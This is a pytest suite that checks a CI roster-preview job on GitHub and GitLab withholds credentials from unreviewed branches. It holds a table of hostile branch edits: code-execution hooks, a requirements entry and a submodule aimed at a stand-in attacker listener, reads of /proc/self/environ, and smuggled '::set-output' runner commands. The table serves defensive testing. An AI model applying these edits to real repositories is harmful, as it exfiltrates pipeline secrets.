"""A branch that nobody has reviewed gets neither credentials nor a comment that says that all is well.

The jobs of the examples run here as they are written, in a sandbox whose engine runs what it finds in the checkout.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from mixpanel_access.operations.branch_rosters import LARGEST
from tests.repositories import MORE, PRODUCTION, Edit, Repository, appended, both, linked, written

from .documents import GITHUB, GITLAB
from .runners import SENDS, Listener, Ran, listening, project, quick_command, run_github, run_gitlab
from .test_ci_scripts import GitHub, note, serving

ROSTER = appended("stacks/production.yaml", MORE)
"""The change that is there to be seen; each attack comes with it."""
SETUP = f"python3 - <<'PYTHON'\n{SENDS}PYTHON\n"
ATTACKS: dict[str, Edit] = {
    "the program": written("stacks/__main__.py", SENDS),
    "the server": written("plugins/pulumi-python/__main__.py", SENDS),
    "the server's folder": written(
        "Pulumi.yaml", "plugins:\n  providers:\n    - { name: pulumi-python, path: stacks }\n"
    ),
    "the pack": written("policies/__main__.py", SENDS),
    "the configuration": written("stacks/Pulumi.production.yaml", "config:\n  mixpanel:apiUrl: 'URL'\n"),
    "the set-up": appended("Makefile", SETUP),
    "a module that the program finds first": written("stacks/mixpanel_access/__init__.py", SENDS),
    "a module at the top": written("sitecustomize.py", SENDS),
    "the installed command": written(".venv/bin/mixpanel-access", f"#!/bin/sh\n{SETUP}"),
    "the attributes": written(".gitattributes", "*.yaml filter=evil\n"),
    "a submodule": written(".gitmodules", '[submodule "x"]\n\tpath = stacks/x\n\turl = URL\n'),
    "the requirements": written("requirements.txt", "evil @ URL\n"),
    "the workflow": written(".github/workflows/mixpanel-access.yml", "on: push\n"),
    "the pipeline": written(".gitlab-ci.yml", "preview:production: { script: [env] }\n"),
    "an include out of the folder": written(
        "stacks/production.yaml", PRODUCTION.replace("common.yaml", "/proc/self/environ")
    ),
    "an include of the configuration": written(
        "stacks/production.yaml", PRODUCTION.replace("common.yaml", "Pulumi.production.yaml")
    ),
    "a link to the environment": linked("stacks/common.yaml", "/proc/self/environ"),
    "a link to a roster": linked("stacks/staging.yaml", "production.yaml"),
    "the exit code": both(written("preview/exit-code.txt", "0\n"), written("preview/plan.txt", "succeeded\n")),
    "a link for the exit code": linked("preview", "stacks"),
    "a path that is a command": written("::set-output name=code::0", ""),
    "a roster with a command in it": written("stacks/production.yaml", "a: |\n  ::set-output name=code::0\n  x\n"),
    "a large roster": appended("stacks/staging.yaml", "#" * LARGEST),
    "a roster that is not YAML": written("stacks/production.yaml", "environment: [\n"),
}


@pytest.fixture(scope="module")
def _listening() -> Iterator[Listener]:
    """The same for all tests here."""
    with listening() as server:
        yield server


@pytest.fixture
def listener(_listening: Listener) -> Listener:
    """What the sandbox can reach."""
    _listening.received.clear()
    return _listening


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory: pytest.TempPathFactory, _listening: Listener) -> Iterator[Path]:
    """The repository before anybody makes a branch."""
    folder = tmp_path_factory.mktemp("reviewed")
    with quick_command(folder) as command:
        yield project(folder / "repository", _listening, command).folder


@pytest.fixture
def repository(reviewed: Path, tmp_path: Path) -> Repository:
    """A copy of the repository."""
    return Repository(Path(shutil.copytree(reviewed, tmp_path / "repository")))


def aimed(edit: Edit, listener: Listener) -> Edit:
    """An edit whose code and settings name the listener."""

    def aim(folder: Path) -> None:
        edit(folder)
        for file in (path for path in folder.rglob("*") if path.is_file() and ".git" not in path.parts):
            if not file.is_symlink() and b"URL" in file.read_bytes():
                file.write_text(file.read_text().replace("URL", listener.url("attacker")))

    return aim


def previewed(kind: str, text: str, repository: Repository, edit: Edit) -> tuple[Ran, str]:
    """Run the preview of a branch; how the job ended, and the comment that comes of it."""
    head, folder = repository.branch(edit), repository.folder.parent
    workspace = folder / "workspace"
    if kind == "github":
        ran = run_github(text, "preview", workspace, repository, head)
    else:
        ran = run_gitlab(text, workspace, repository, head)
    commenting = folder / "comment"  # a job of its own: of the other it has what was handed on
    commenting.mkdir()
    if (workspace / "preview").is_dir():
        shutil.copytree(workspace / "preview", commenting / "preview", symlinks=True)
    if kind == "github":
        return ran, GitHub(commenting).comment()
    with serving() as gitlab:
        return ran, note(gitlab, commenting)


KINDS = {"github": GITHUB, "gitlab": GITLAB}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_gets_neither_credentials_nor_a_green_comment(
    repository: Repository, listener: Listener, name: str, kind: str
) -> None:
    """Nothing reaches the attacker, no preview is made, and the comment says so."""
    ran, comment = previewed(kind, KINDS[kind], repository, aimed(both(ROSTER, ATTACKS[name]), listener))
    assert listener.received == []
    assert "succeeded" not in comment.splitlines()[1]
    assert "was NOT made" in comment.splitlines()[1]
    assert "Nothing of the branch was run" in comment
    assert not [command for command in ran.commands if not command.startswith(("::warning ", "::error "))]


@pytest.mark.parametrize("kind", KINDS)
def test_a_roster_is_previewed(repository: Repository, listener: Listener, kind: str) -> None:
    """The control: the person more is in the plan, and the credentials go where the reviewed configuration says."""
    ran, comment = previewed(kind, KINDS[kind], repository, ROSTER)
    assert not ran.failed, ran.log
    assert "succeeded" in comment.splitlines()[1]
    assert "\n+ robin@agency.example.org" in comment
    assert len(listener.let_out("mixpanel")) == 3
    assert listener.let_out("attacker") == []


@pytest.mark.parametrize("kind", KINDS)
def test_text_of_a_roster_steers_neither_the_runner_nor_the_comment(repository: Repository, kind: str) -> None:
    """A reason with commands of the runner, backticks and controls stays text."""
    person = MORE.replace("{ email", r'{ justification: "a\n::set-output name=code::0\n##[add-path]x\n```\e[2J", email')
    ran, comment = previewed(kind, KINDS[kind], repository, appended("stacks/production.yaml", person))
    assert not ran.failed, ran.log
    assert ran.commands == []
    assert "::set-output" in ran.log
    assert "\n````text\n" in comment
    assert "\x1b" not in comment


SPOILED = {
    "github": GITHUB.replace(
        "          fetch-depth: 0\n", "          ref: ${{ github.event.pull_request.head.sha }}\n", 1
    ).replace('mixpanel-access copy-rosters "$HEAD"', "true"),
    "gitlab": GITLAB.replace('git fetch --quiet origin "$CI_COMMIT_SHA"', 'git checkout -q "$CI_COMMIT_SHA"').replace(
        'mixpanel-access copy-rosters "$CI_COMMIT_SHA"', "true"
    ),
}
"""The examples with the branch checked out, as it used to be."""


@pytest.mark.parametrize("kind", SPOILED)
@pytest.mark.parametrize("name", ["the program", "the pack", "the configuration"])
def test_the_sandbox_would_show_a_leak(repository: Repository, listener: Listener, name: str, kind: str) -> None:
    """An example that checks out the branch gives everything away here."""
    _, comment = previewed(kind, SPOILED[kind], repository, aimed(both(ROSTER, ATTACKS[name]), listener))
    assert len(listener.let_out("attacker")) == 3
    assert "succeeded" in comment.splitlines()[1]


def test_gitlab_refuses_a_pipeline_of_the_branch(repository: Repository, tmp_path: Path, listener: Listener) -> None:
    """Where GitLab takes the pipeline from the merge request, nothing runs, and the log says what to set."""
    head = repository.branch(ROSTER)
    ran = run_gitlab(GITLAB, tmp_path / "workspace", repository, head, CI_CONFIG_PATH=".gitlab-ci.yml")
    assert ran.failed
    assert "CI/CD configuration file to .gitlab-ci.yml@o/r" in ran.log
    assert listener.received == []
    assert list((tmp_path / "workspace").iterdir()) == []
